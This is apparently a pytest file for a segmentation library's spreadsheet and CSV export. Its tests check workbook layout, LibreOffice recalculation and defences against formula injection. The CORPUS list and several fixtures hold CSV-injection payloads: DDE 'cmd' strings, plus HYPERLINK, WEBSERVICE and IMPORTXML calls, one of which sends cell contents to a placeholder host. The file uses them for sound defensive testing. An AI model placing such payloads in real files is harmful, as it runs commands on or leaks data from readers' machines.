from pathlib import Path

import openpyxl
import pytest

from segmentation.export import Results, write_csv, write_excel_csv, write_results, write_workbook
from segmentation.profiles import Profile, profile
from segmentation.sizing import Estimate, Program, of_market, outcome, together
from segmentation.variables import Role
from segmentation.wording import words_in
from tests.export.office import AS_CSV, OFFICE, Cell, Sheets, opened
from tests.markets import open_market

NAMES = ("City folk", '=HYPERLINK("http://example.com")')
PROGRAMS = (
    Program("City folk", "email", 4000, 0.03, 50, 0.5, 1000, 0.01),
    Program("=1+1", "", 100, 0.01, 20, 1.0, 50, 0.0),
    Program("@SUM(A1)", "", 800, 0.02, 0, 0.0, 0, 0.0),
)
MARKET = (10_000.0, 14_000.0)
ABOUT = [{"About": "File", "What": "=cmd|' /C calc'!A0"}, {"About": "+1", "What": "-1+1"}]
# What runs as a formula, a link or a program in a careless spreadsheet.
CORPUS = [
    "=1+1",
    "=cmd|' /C touch ran'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=WEBSERVICE("http://example.com")',
    '=DDE("cmd";"/C touch ran";"x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C touch ran'!A0",
    "\t=1+1",
    "＝1+1",
    '=IMPORTXML("http://example.com","//a")',
]


@pytest.fixture(scope="module")
def described(tmp_path_factory: pytest.TempPathFactory) -> Profile:
    lines = [f"{i},{i % 7 + 5 * (i % 3 == 0)},{'NS'[i % 2]}" for i in range(90)]
    market = open_market(
        tmp_path_factory.mktemp("results"),
        "\n".join(["customer_id,visits,city", *lines, ""]),
        rest=Role.DESCRIPTOR,
    )
    labels = market.labelled([int(i % 3 == 0) for i in range(90)])
    return profile(market.table, market.variables, labels, 2)


@pytest.fixture(scope="module")
def written(described: Profile, tmp_path_factory: pytest.TempPathFactory) -> Path:
    card = [{"Segment": NAMES[1], "Value": 0.5, "Why": "=1+1"}]
    numbers = [{"Number of segments": 2, "Separation (silhouette)": 0.5}]
    results = Results(NAMES, described, numbers, card, PROGRAMS, MARKET, ABOUT)
    return write_results(results, words_in("en"), tmp_path_factory.mktemp("book") / "results.xlsx")


def test_the_workbook_has_a_sheet_for_every_part_with_fixed_headings(written: Path) -> None:
    book = openpyxl.load_workbook(written)
    assert book.sheetnames == [
        "Sizes",
        "Profile",
        "How many segments",
        "Scorecard",
        "Money",
        "Methods and data",
    ]
    assert [book[name].freeze_panes for name in book.sheetnames] == [
        "B5",
        "B2",
        "B2",
        "B2",
        "B4",
        "B2",
    ]
    assert all(book[name].column_dimensions["A"].width >= 11 for name in book.sheetnames)


def test_sheets_have_their_names_in_the_readers_language_and_fit(described: Profile) -> None:
    texts = ("Sizes", "Profile", "How many segments", "Scorecard", "Money", "Methods and data")
    for language in ("en", "zh_CN"):
        names = [words_in(language)(text) for text in texts]
        assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)
        assert len({name.casefold() for name in names}) == len(names)


def test_only_our_own_formulas_are_in_the_workbook(written: Path) -> None:
    book = openpyxl.load_workbook(written)
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.hyperlink is None
            if cell.data_type == "f":
                assert str(cell.value).startswith(("=IF(", "=SUM("))
    assert book["Money"]["A5"].value == "=1+1"
    assert book["Money"]["A5"].data_type == "s"


def test_what_a_reader_may_change_is_a_number_and_what_follows_a_formula(written: Path) -> None:
    money = openpyxl.load_workbook(written)["Money"]
    kinds = [cell.data_type for cell in money[4]]
    assert kinds == ["s", *"n" * 6, *"f" * 7]


def test_without_programs_every_segment_has_a_row_to_be_filled_in(
    described: Profile, tmp_path: Path
) -> None:
    results = Results(NAMES, described, [], [], (), None, ABOUT)
    book = openpyxl.load_workbook(write_results(results, words_in("zh_CN"), tmp_path / "r.xlsx"))
    assert len(book.sheetnames) == 4
    sheet = book.worksheets[2]
    assert [sheet.cell(4 + s, 2).value for s in (0, 1)] == [size.n for size in described.sizes]


@pytest.fixture(scope="module")
def office(written: Path) -> Sheets:
    if OFFICE is None:
        pytest.skip("LibreOffice is not installed")
    return opened(written.parent, written)[0]


def test_libreoffice_works_money_out_as_the_library_does(office: Sheets) -> None:
    rows = office["Money"][3:]
    for row, program in zip(rows, PROGRAMS, strict=False):
        found = outcome(program)
        expected = [found.responses, found.revenue, found.cost, found.profit, found.roi]
        expected += [found.break_even, found.smallest]
        for cell, value in zip(row[7:14], expected, strict=True):
            is_number = value == value and abs(value) != float("inf")
            assert cell.value == (pytest.approx(value) if is_number else None)
    assert rows[len(PROGRAMS)][7].value is None  # a spare row shows nothing
    total, all_of_them = rows[len(PROGRAMS) + 5], together(PROGRAMS)
    assert [cell.value for cell in total[7:12]] == [
        pytest.approx(value)
        for value in (
            all_of_them.responses,
            all_of_them.revenue,
            all_of_them.cost,
            all_of_them.profit,
            all_of_them.roi,
        )
    ]


def test_libreoffice_projects_sizes_onto_the_market_as_the_library_does(
    office: Sheets, described: Profile
) -> None:
    for row, size in zip(office["Sizes"][4:], described.sizes, strict=False):
        share = Estimate(size.share, size.low, size.high)
        expected = of_market(share, 90, *MARKET)
        told = [cell.value for cell in row[5:8]]
        assert told == [
            pytest.approx(value) for value in (expected.likely, expected.low, expected.high)
        ]


def test_libreoffice_gives_the_index_of_the_profile(office: Sheets, described: Profile) -> None:
    fact = next(f for f in described.numbers if f.variable == "visits" and f.segment == 1)
    row = next(row for row in office["Profile"] if row[0].value == "visits")
    assert row[7].value == pytest.approx(fact.index)


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_nothing_runs_when_libreoffice_opens_files_for_readers(tmp_path: Path) -> None:
    lines = [
        "n,text",
        *(f'{i},"{text.replace(chr(34), chr(34) * 2)}"' for i, text in enumerate(CORPUS)),
    ]
    market = open_market(tmp_path, "\n".join([*lines, ""]), rest=Role.IGNORE)
    labels = market.labelled([0] * len(CORPUS))
    plain = write_csv(market.table, labels, CORPUS[:1], market.folder / "plain.csv")
    excel = write_excel_csv(market.table, labels, CORPUS[:1], market.folder / "excel.csv")
    book = write_workbook(market.table, labels, CORPUS[:1], market.folder / "book.xlsx")
    untouched, safe = opened(market.folder, plain, excel, infilter=AS_CSV)
    assert len(_formulas(untouched)) > 3  # what the apostrophe is for
    [read] = opened(market.folder, book)
    for sheets in (safe, read):
        assert not _formulas(sheets)
        [rows] = sheets.values()
        assert [str(row[1].value).strip("'\t ") for row in rows[1 : 1 + len(CORPUS)]] == [
            text.strip("\t") for text in CORPUS
        ]
    assert not list(tmp_path.rglob("ran"))


def _formulas(sheets: Sheets) -> list[Cell]:
    return [cell for rows in sheets.values() for row in rows for cell in row if cell.formula]
